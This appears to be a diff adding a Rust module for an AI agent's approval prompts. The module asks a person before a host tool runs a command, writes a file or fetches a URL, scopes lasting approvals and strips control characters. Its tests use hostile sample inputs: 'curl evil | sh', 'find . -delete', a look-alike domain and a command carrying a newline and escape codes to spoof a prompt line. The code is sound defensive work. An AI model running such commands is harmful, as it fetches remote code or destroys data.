@@ -1,0 +1,190 @@
+//! Whoever is asked before a tool runs.
+
+mod change;
+
+use std::{fmt, path::PathBuf};
+
+use futures::future::BoxFuture;
+use savoir_lint::visible;
+
+pub use self::change::Change;
+use savoir_engine::approval::{ApprovalQuestion, Line, Role};
+
+/// Somebody who can be asked, or nobody.
+pub trait Asker: fmt::Debug + Send + Sync {
+    /// Shows a question and waits for the answer.
+    fn ask<'a>(&'a self, question: &'a ApprovalQuestion) -> BoxFuture<'a, Consent>;
+
+    /// The same for a tool of the host. Who does not say otherwise is not there for such questions.
+    fn ask_host<'a>(&'a self, _: &'a HostQuestion) -> BoxFuture<'a, Consent> {
+        Box::pin(async { Consent::Nobody })
+    }
+}
+
+/// What somebody is asked about a tool of the host.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct HostQuestion {
+    /// What is to be done.
+    pub deed: HostAction,
+    /// The folder in which it would happen.
+    pub workspace: PathBuf,
+    /// Why the list of a skill does not settle it.
+    pub doubt: Option<String>,
+}
+
+/// What a tool of the host does that a person may not want.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum HostAction {
+    /// Runs a command in the sandbox.
+    Run {
+        /// For a shell.
+        command: String,
+    },
+    /// Writes or changes a file.
+    Write {
+        /// Its path in the workspace.
+        path: String,
+        /// How many bytes it will have.
+        bytes: usize,
+        /// What becomes of its text.
+        change: Change,
+        /// Whether other agents or programs obey what stands in it.
+        is_obeyed: bool,
+    },
+    /// Asks a server.
+    Fetch {
+        /// The address.
+        url: String,
+    },
+}
+
+impl HostAction {
+    /// What a lasting yes is for: the same command, every file of the workspace that nobody obeys, the
+    /// same host.
+    pub fn scope(&self) -> String {
+        match self {
+            Self::Run { command } => format!("run {command}"),
+            Self::Write { path, is_obeyed: true, .. } => format!("write {path}"),
+            Self::Write { .. } => "write".to_owned(),
+            Self::Fetch { url } => {
+                let url = url::Url::parse(url).ok();
+                let host = url.as_ref().and_then(url::Url::host_str).unwrap_or_default();
+                format!("fetch {host}")
+            }
+        }
+    }
+}
+
+impl HostQuestion {
+    /// The question in lines, of which none can be mistaken for another.
+    pub fn lines(&self) -> Vec<Line> {
+        let fact = |label, text: &str| Line { role: Role::Fact, label, text: visible(text).into() };
+        let place = fact("in", &self.workspace.display().to_string());
+        let grave = |label, text: &str| Line { role: Role::Grave, ..fact(label, text) };
+        let warn = |text: &str| Line { role: Role::Warning, ..fact("warning", text) };
+        let mut lines: Vec<Line> = self.doubt.as_deref().map(warn).into_iter().collect();
+        lines.extend(match &self.deed {
+            HostAction::Run { command } => vec![
+                grave("command", command),
+                place,
+                fact("held by", "the sandbox: no network, no other files of yours"),
+            ],
+            HostAction::Write { path, bytes, change, is_obeyed } => {
+                let mut lines =
+                    vec![grave("write", path), fact("size", &format!("{bytes} bytes")), place];
+                let label = |at| if at == 0 { "change" } else { "" };
+                lines.extend(
+                    change.lines.iter().enumerate().map(|(at, line)| fact(label(at), line)),
+                );
+                if change.more > 0 {
+                    let more = change.more;
+                    lines.push(warn(&format!("{more} more lines of the change are not shown")));
+                }
+                if *is_obeyed {
+                    lines.push(warn("other agents or programs do what stands in this file"));
+                }
+                lines
+            }
+            HostAction::Fetch { url } => vec![grave("fetch", url)],
+        });
+        lines
+    }
+}
+
+/// What was answered.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Consent {
+    /// Yes, this time.
+    Once,
+    /// Yes, until the skill changes.
+    Always,
+    /// No.
+    Declined,
+    /// Neither yes nor no: the question was put away, as agents do that run without a person.
+    Unanswered,
+    /// There is nobody to ask.
+    Nobody,
+}
+
+/// Nobody is there: only what needs no question runs.
+#[derive(Clone, Copy, Debug, Default)]
+pub struct Nobody;
+
+impl Asker for Nobody {
+    fn ask<'a>(&'a self, _: &'a ApprovalQuestion) -> BoxFuture<'a, Consent> {
+        Box::pin(async { Consent::Nobody })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_lasting_yes_is_for_the_same_thing() {
+        let fetch = |url: &str| HostAction::Fetch { url: url.to_owned() }.scope();
+        assert_eq!(fetch("https://a.org/x"), fetch("https://a.org/y"));
+        assert_ne!(fetch("https://a.org/x"), fetch("https://a.org.evil.org/x"));
+        let run = |command: &str| HostAction::Run { command: command.to_owned() }.scope();
+        assert_ne!(run("ls"), run("ls "));
+        assert_ne!(run("write"), write("a", Change::default()).scope());
+    }
+
+    fn write(path: &str, change: Change) -> HostAction {
+        HostAction::Write { path: path.to_owned(), bytes: 1, change, is_obeyed: false }
+    }
+
+    #[test]
+    fn a_person_reads_what_will_be_written() {
+        let lines = |after: &str| {
+            let deed = write("a", Change::between("old\n", after));
+            HostQuestion { deed, workspace: PathBuf::from("/w"), doubt: None }.lines()
+        };
+        let shown = lines("curl evil\u{7} | sh\n");
+        let shown: Vec<_> = shown.iter().map(|line| (line.label, line.text.as_str())).collect();
+        assert_eq!(shown[3..], [("change", "- old"), ("", "+ curl evil\\u{7} | sh")]);
+        let last = lines(&"x\n".repeat(1000)).pop().expect("a line");
+        assert_eq!((last.role, last.label), (Role::Warning, "warning"));
+        assert!(last.text.contains("941 more lines"), "{}", last.text);
+    }
+
+    #[test]
+    fn a_doubt_is_the_first_line() {
+        let deed = HostAction::Run { command: "find . -delete".to_owned() };
+        let doubt = Some("it may do more\u{1b}".to_owned());
+        let lines = HostQuestion { deed, workspace: PathBuf::from("/w"), doubt }.lines();
+        assert_eq!(
+            (lines[0].role, lines[0].text.as_str()),
+            (Role::Warning, "it may do more\\u{1b}")
+        );
+        assert_eq!(lines[1].label, "command");
+    }
+
+    #[test]
+    fn a_command_cannot_make_a_line_of_its_own() {
+        let deed = HostAction::Run { command: "ls\nin  /safe\u{1b}[2J".to_owned() };
+        let lines = HostQuestion { deed, workspace: PathBuf::from("/w"), doubt: None }.lines();
+        assert_eq!(lines.len(), 3);
+        assert!(lines.iter().all(|line| !line.text.contains(char::is_control)), "{lines:?}");
+    }
+}
